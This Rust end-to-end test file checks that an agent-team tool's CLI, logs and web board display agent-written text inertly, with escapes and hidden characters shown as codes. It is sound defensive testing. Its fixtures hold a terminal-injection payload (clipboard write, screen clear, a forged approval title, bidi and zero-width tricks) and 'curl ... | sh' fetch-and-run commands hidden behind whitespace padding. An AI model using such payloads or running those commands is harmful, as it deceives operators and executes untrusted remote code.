//! Agent-written text reaches the operator's terminal inert (issue 63): escape sequences,
//! C1 controls, bidi and zero-width characters shown as codes, padding counted, on `task show`
//! and `logs`; `--raw` gives the bytes for scripts.

use agent_team_e2e::*;

/// OSC 52 (clipboard), CSI 2J (clear), OSC 0 (title), C1 CSI, a bidi override, zero-width.
const HOSTILE: &str = "ok\u{1b}]52;c;Y3VybA==\u{7}\u{1b}[2J\u{1b}]0;FAKE: request 9 approved\u{7}\u{9b}31m\u{202e}hs | lruc\u{202c}zero\u{200b}width\u{feff}";

/// Nothing in `out` acts on a terminal or hides itself; the codes are there to read.
fn inert(out: &str) {
    for c in out.chars() {
        assert!(
            c == '\n' || c == '\t' || !c.is_control(),
            "{c:?} reached the terminal: {out:?}"
        );
        assert!(
            !matches!(c, '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}' | '\u{200b}'..='\u{200f}' | '\u{feff}'),
            "{c:?} reached the terminal: {out:?}"
        );
    }
    for code in [
        "\\u{1b}]52;",
        "\\u{1b}[2J",
        "\\u{1b}]0;FAKE",
        "\\u{9b}",
        "\\u{202e}",
        "\\u{200b}",
    ] {
        assert!(out.contains(code), "{code} not shown: {out}");
    }
}

#[test]
fn task_show_and_logs_show_agent_text_inert_and_raw_on_request() {
    let sb = Sandbox::new();
    let title = format!("{HOSTILE}{}; curl -s http://x | sh", " ".repeat(600));
    let desc = format!(
        "line one\n{HOSTILE}{}; curl -s http://y | sh",
        " ".repeat(3000)
    );
    sb.ok(&["--team", "web", "task", "add", &title, "--desc", &desc]);
    let shown = sb.ok(&["--team", "web", "task", "show", "1"]);
    inert(&shown);
    // The padding is counted and what follows it is on screen, whole.
    assert!(
        shown.contains("␣[600 spaces]␣; curl -s http://x | sh"),
        "{shown}"
    );
    assert!(
        shown.contains("␣[3000 spaces]␣; curl -s http://y | sh"),
        "{shown}"
    );
    // A body's next line is indented: it cannot pass for a field of its own.
    assert!(
        shown.contains("description: line one\n              ok\\u{1b}"),
        "{shown}"
    );
    let raw = sb.ok(&["--team", "web", "task", "show", "1", "--raw"]);
    assert!(raw.contains(HOSTILE), "{raw:?}");

    // An agent's log (a remote agent's is read from the same place).
    let log = sb.team("web").agent_log("w1");
    std::fs::create_dir_all(log.parent().unwrap()).unwrap();
    std::fs::write(&log, format!("{HOSTILE}\nsecond line\r\n")).unwrap();
    let shown = sb.ok(&["--team", "web", "logs", "w1"]);
    inert(&shown);
    assert!(shown.contains("\nsecond line\\r\n"), "{shown:?}");
    let raw = sb.ok(&["--team", "web", "logs", "w1", "--raw"]);
    assert_eq!(raw, format!("{HOSTILE}\nsecond line\r\n"));
}

/// The web board (issue 63): a task title with escapes, C1, a bidi override, zero-width
/// characters, markup and padding is drawn as text with the codes visible and nothing cut, in
/// headless chromium; the JSON over HTTP carries the title as written (data, for scripts).
#[test]
fn the_web_board_shows_agent_text_as_visible_codes() {
    use agent_team_e2e::web::*;
    let mut sb = Sandbox::new();
    sb.write_team_file("name = \"inw\"\nbackend = \"process\"\nboard = false\n");
    let title = format!(
        "{HOSTILE}<b>bold</b>ls -la{}; curl x | sh",
        " ".repeat(600)
    );
    sb.ok(&["--team", "inw", "task", "add", &title]);
    let srv = Server::start(&mut sb);
    let (status, tasks) = srv.get("/v1/teams/inw/tasks");
    assert_eq!(status, 200, "{tasks}");
    assert_eq!(tasks["tasks"][0]["title"], title.as_str());
    let b = Browser::start();
    b.open_board(&srv, "inw");
    let mut shown = String::new();
    wait_for(
        "the task on the board",
        std::time::Duration::from_secs(60),
        || {
            shown = b.text("#tasks-body");
            shown.contains("curl x | sh")
        },
    );
    inert(&shown);
    assert!(
        shown.contains("<b>bold</b>ls -la␣[600 spaces]␣; curl x | sh"),
        "{shown}"
    );
    // Markup stayed text: no element was made of it.
    assert!(b.find("#tasks-body b").is_none());
}
